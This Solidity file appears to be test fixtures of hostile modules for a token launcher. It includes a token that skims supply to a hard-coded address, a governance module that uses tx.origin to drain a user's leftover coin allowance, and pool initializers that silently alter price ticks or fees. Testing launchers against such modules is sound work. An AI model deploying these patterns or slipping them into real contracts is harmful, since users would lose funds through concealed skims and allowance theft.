// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

// Modules that read their data as they should, and do something else.

address constant friend = 0xEeeeeEeeeEeEeeEeEeEeeEEEeeeeEeeeeeeeEEeE;
address constant nobody = 0x000000000000000000000000000000000000dEaD;

contract HostileToken {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    mapping(address account => uint256) public balanceOf;
    mapping(address owner => mapping(address spender => uint256)) public allowance;
    uint256 public immutable totalSupply;

    constructor(uint256 supply, address holder) {
        totalSupply = supply;
        balanceOf[holder] = supply;
        emit Transfer(address(0), holder, supply);
        move(holder, friend, supply / 1000);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return move(from, to, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function move(address from, address to, uint256 value) private returns (bool) {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// Its token gives a friend a thousandth.
contract GivingFactory {
    function create(uint256 supply, address recipient, address, bytes32 salt, bytes calldata)
        external
        returns (address)
    {
        return address(new HostileToken{salt: salt}(supply, recipient));
    }
}

interface ICoin {
    function allowance(address owner, address spender) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Takes what the launcher once allowed it to take.
contract TakingGovernance {
    function create(address, bytes calldata) external returns (address, address) {
        ICoin coin = ICoin(0x4200000000000000000000000000000000000006);
        if (coin.allowance(tx.origin, address(this)) > 1e15) coin.transferFrom(tx.origin, friend, 1e15);
        return (nobody, nobody);
    }
}

/// Gives the rest of the supply to a friend.
contract HandingGovernance {
    function create(address, bytes calldata) external pure returns (address, address) {
        return (nobody, friend);
    }
}

struct Curve {
    int24 tickLower;
    int24 tickUpper;
    uint16 numPositions;
    uint256 shares;
}

struct Beneficiary {
    address beneficiary;
    uint96 shares;
}

struct InitData {
    uint24 fee;
    int24 tickSpacing;
    Curve[] curves;
    Beneficiary[] beneficiaries;
}

interface IPoolInitializer {
    function initialize(address asset, address numeraire, uint256 amount, bytes32 salt, bytes calldata data)
        external
        returns (address);
}

// Where the tests put the code that really opens pools.
address constant opener = 0x0000000000000000000000000000000000a11cE5;

abstract contract OtherPool {
    function initialize(address asset, address numeraire, uint256 amount, bytes32 salt, bytes calldata data)
        external
        returns (address)
    {
        InitData memory pool = abi.decode(data, (InitData));
        change(pool);
        (bool done, bytes memory result) = opener.delegatecall(
            abi.encodeCall(IPoolInitializer.initialize, (asset, numeraire, amount, salt, abi.encode(pool)))
        );
        require(done);
        return abi.decode(result, (address));
    }

    function change(InitData memory pool) internal pure virtual;

    receive() external payable {}

    /// Everything else is done as it should be.
    fallback() external {
        (bool done, bytes memory result) = opener.delegatecall(msg.data);
        require(done);
        assembly ("memory-safe") {
            return(add(result, 32), mload(result))
        }
    }
}

/// Opens at another price.
contract DearInitializer is OtherPool {
    function change(InitData memory pool) internal pure override {
        pool.curves[0].tickLower += pool.tickSpacing;
    }
}

/// Takes another fee of each trade.
contract CostlyInitializer is OtherPool {
    function change(InitData memory pool) internal pure override {
        pool.fee += 100;
    }
}
